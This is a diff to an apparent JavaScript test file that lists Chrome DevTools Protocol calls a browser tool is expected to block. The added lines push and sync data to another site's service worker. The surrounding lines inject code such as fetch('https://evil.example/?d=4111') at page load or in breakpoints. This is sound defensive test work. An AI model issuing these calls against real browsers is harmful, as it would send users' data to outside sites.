@@ -381,6 +381,9 @@ t.test('an intercepted request answered with a redirect or page elsewhere, a con
     cdp('Storage.setCookies', { cookies: [{ name: 'd', value: '4111', domain: 'evil.example' }] }),
     cdp('DOMStorage.setDOMStorageItem', { storageId: { securityOrigin: 'https://evil.example', isLocalStorage: true }, key: 'd', value: '4111' }),
     cdp('Storage.setSharedStorageEntry', { ownerOrigin: 'https://evil.example', key: 'd', value: '4111', ignoreIfPresent: false }),
+    // Twenty-second pass: a push or sync event of data for another site's service worker.
+    cdp('ServiceWorker.deliverPushMessage', { origin: 'https://evil.example', registrationId: '1', data: '4111' }),
+    cdp('ServiceWorker.dispatchSyncEvent', { origin: 'https://evil.example', registrationId: '1', tag: 'd-4111', lastChance: false }),
     // Code run at the next load or a breakpoint, a value handed to the page's code, a style.
     cdp('Page.reload', { scriptToEvaluateOnLoad: "fetch('https://evil.example/?d=4111')" }),
     cdp('Debugger.setBreakpointByUrl', { lineNumber: 1, url: 'https://docs.example/app.js', condition: "fetch('//evil.example/?d=4111'), false" }),
